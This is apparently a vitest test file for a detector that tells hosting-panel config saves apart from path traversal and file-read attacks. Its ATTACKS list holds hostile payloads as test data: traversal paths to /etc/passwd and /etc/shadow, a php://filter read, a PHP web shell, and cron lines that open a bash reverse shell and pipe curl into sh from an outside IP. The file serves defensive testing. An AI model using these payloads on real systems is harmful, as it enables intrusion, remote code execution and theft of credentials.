/**
 * A file editor's save (file-save.ts): the bare path a hosting panel or config tool writes, beside the file's
 * text, is the name of the file written; the same path asked for alone, in a query, or as a never-mentioned
 * file or a traversal stays a read (blind benign sets 5 and 7: configs/0, 4, 7 and configsave/0, 6, 8).
 */
import { describe, expect, it } from 'vitest';
import type { Target } from '../../src/inspect/types.js';
import { bodySavesFile, isFileWriteRoute, isSaveLocationName, mayBeSaveLocation, namesBodySaveLocation } from '../../src/model/file-save.js';
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const body = (name: string, raw: string, decoded: string[] = []): Target => ({ location: 'body', name, role: 'value', raw, decoded });

describe('file-save', () => {
  it('takes location names only (`path`, `dir`, `file_path`), not include or render sinks', () => {
    for (const n of ['path', 'dir', 'file', 'filename', 'file_path', 'targetPath', 'directory', 'folder']) expect(isSaveLocationName(n), n).toBe(true);
    for (const n of ['page', 'template', 'include', 'lang', 'include_file', 'template_path', 'name', 'target', 'p', 'q']) expect(isSaveLocationName(n), n).toBe(false);
  });

  it('asks a body location only, never a query value', () => {
    expect(mayBeSaveLocation(body('path', '/etc/haproxy'))).toBe(true);
    expect(mayBeSaveLocation({ location: 'query', name: 'path', role: 'value', raw: '/etc/haproxy', decoded: [] })).toBe(false);
  });

  it("takes a write's query location naming the body's own location field's file, not another file or a read", () => {
    const query = (raw: string, decoded: string[] = []): Target => ({ location: 'query', name: 'path', role: 'value', raw, decoded });
    const targets = [body('path', '/etc/httpd/conf.d/api.conf'), body('content', '<VirtualHost *:80>\n  ServerName api\n</VirtualHost>\n')];
    const same = query('%2Fetc%2Fhttpd%2Fconf.d%2Fapi.conf', ['/etc/httpd/conf.d/api.conf']);
    expect(namesBodySaveLocation(same, targets, 'PUT')).toBe(true);
    expect(namesBodySaveLocation(query('/etc/httpd/conf.d/api.conf'), targets, 'POST')).toBe(true);
    expect(namesBodySaveLocation(same, targets, 'GET')).toBe(false);
    expect(namesBodySaveLocation(query('%2Fetc%2Fpasswd', ['/etc/passwd']), targets, 'PUT')).toBe(false);
    expect(namesBodySaveLocation({ ...same, name: 'page' }, targets, 'PUT')).toBe(false);
    expect(namesBodySaveLocation(same, [targets[1]], 'PUT')).toBe(false);
  });

  it("takes Ajenti's write route naming a mentionable file beside a text body of several lines", () => {
    const text = Buffer.from('bind 127.0.0.1 ::1\nprotected-mode yes\nport 6379\n');
    const route = (raw: string): Target => ({ location: 'path', name: 'path', role: 'value', raw, decoded: [] });
    const req = (rawPath: string, over: Partial<{ method: string; body: Buffer; bodyKind: 'text' | 'form' | 'json' | 'none' }> = {}) => ({ method: 'POST', rawPath, body: text, bodyKind: 'text' as const, ...over });
    expect(isFileWriteRoute(route('/api/filesystem/write/etc/redis/redis.conf'), req('/api/filesystem/write/etc/redis/redis.conf'))).toBe(true);
    for (const [p, over] of [
      ['/api/filesystem/write/etc/passwd', {}],
      ['/api/filesystem/write/etc/shadow', {}],
      ['/api/filesystem/write/var/www/../../etc/passwd', {}],
      ['/api/filesystem/write/etc/%2e%2e/etc/passwd', {}],
      ['/api/filesystem/read/etc/redis/redis.conf', {}],
      ['/api/files/write/etc/redis/redis.conf', {}],
      ['/api/filesystem/write/etc/redis/redis.conf', { method: 'GET' }],
      ['/api/filesystem/write/etc/redis/redis.conf', { bodyKind: 'form' }],
      ['/api/filesystem/write/etc/redis/redis.conf', { body: Buffer.from('port 6379') }],
    ] as const)
      expect(isFileWriteRoute(route(p), req(p, over as never)), p).toBe(false);
  });

  it('sees a save in a content field of several lines, in any decoded form', () => {
    expect(bodySavesFile([body('path', '/etc/redis/redis.conf'), body('content', 'bind 127.0.0.1 ::1\nprotected-mode yes\nport 6379\n')])).toBe(true);
    expect(bodySavesFile([body('text', 'frontend+https-in%0A++bind+*%3A443%0A++default_backend+web%0A', ['frontend https-in\n  bind *:443\n  default_backend web\n'])])).toBe(true);
  });

  it('sees no save in one line, a short text, or a field not named for content', () => {
    expect(bodySavesFile([body('content', 'port 6379')])).toBe(false);
    expect(bodySavesFile([body('content', 'a\nb\nc')])).toBe(false);
    expect(bodySavesFile([body('comment', 'bind 127.0.0.1 ::1\nprotected-mode yes\nport 6379\n')])).toBe(false);
  });
});

const form = (pairs: (v: string) => [string, string][]): Carrier => (v) => ({
  method: 'POST',
  path: '/cpsess1234567890/execute/Fileman/save_file_content',
  query: '',
  headers: { Host: 'vps1.example-host.com:2083', 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'https://vps1.example-host.com:2083' },
  body: new URLSearchParams(pairs(v)).toString(),
});
const json = (body: (v: string) => unknown): Carrier => (v) => ({ method: 'PUT', path: '/api/servers/190/files', query: '', headers: { Host: 'panel.example-cloud.com', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });

const NGINX = 'server {\n    listen 443 ssl http2;\n    server_name shop.example.com;\n    root /var/www/shop/public;\n}\n';
const SSHD = 'PermitRootLogin no\nPasswordAuthentication no\nMaxAuthTries 3\n';

const CARRIERS: Record<string, Carrier> = {
  'cpanel dir + content': form((v) => [['dir', v], ['file', 'shop.example.com.conf'], ['content', NGINX], ['from_charset', 'UTF-8']]),
  'directadmin path + text': form((v) => [['action', 'edit'], ['path', v], ['filename', 'hardening.conf'], ['text', SSHD]]),
  'panel api path + content': json((v) => ({ path: v, content: 'bind 127.0.0.1 ::1\nprotected-mode yes\nport 6379\nmaxmemory 512mb\n', owner: 'root', mode: '0644' })),
  'cpanel content': form((v) => [['dir', '/etc/cron.d'], ['file', 'backup'], ['content', v]]),
  'path alone': form((v) => [['action', 'edit'], ['path', v], ['filename', 'x.conf']]),
  'path + one-line content': form((v) => [['path', v], ['content', 'x']]),
  'query path': (v) => ({ method: 'GET', path: '/CMD_FILE_MANAGER', query: `action=view&path=${encodeURIComponent(v)}`, headers: { Host: 'admin.example.host:2222' } }),
};

const BENIGN: [string, string][] = [
  ['cpanel dir + content', '/etc/nginx/sites-available'],
  ['directadmin path + text', '/etc/ssh/sshd_config.d'],
  ['directadmin path + text', '/etc/haproxy'],
  ['panel api path + content', '/etc/redis/redis.conf'],
  ['panel api path + content', '/etc/prometheus/rules/api.yml'],
];

const ATTACKS: [string, string][] = [
  ['cpanel dir + content', '../../../../etc/passwd'],
  ['cpanel dir + content', '/etc/nginx/../../etc/shadow'],
  ['directadmin path + text', '/etc/passwd'],
  ['directadmin path + text', '/etc/shadow'],
  ['panel api path + content', '/proc/self/environ'],
  ['panel api path + content', '../../../../../../etc/passwd'],
  ['panel api path + content', 'php://filter/convert.base64-encode/resource=/etc/nginx/nginx.conf'],
  ['cpanel content', '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n* * * * * root curl -s http://203.0.113.9/x | sh\n# keep\n'],
  ['cpanel content', '<?php\nsystem($_GET["cmd"]);\n?>\n'],
  ['path alone', '/etc/passwd'],
  ['path alone', '../../../etc/hosts'],
  ['path + one-line content', '/etc/passwd'],
  ['query path', '/etc/passwd'],
  ['query path', '../../../../etc/passwd'],
];

testCarriers('file editor saves (file-save.ts)', 'passes a config save naming its /etc path beside the file text', CARRIERS, BENIGN, ATTACKS);
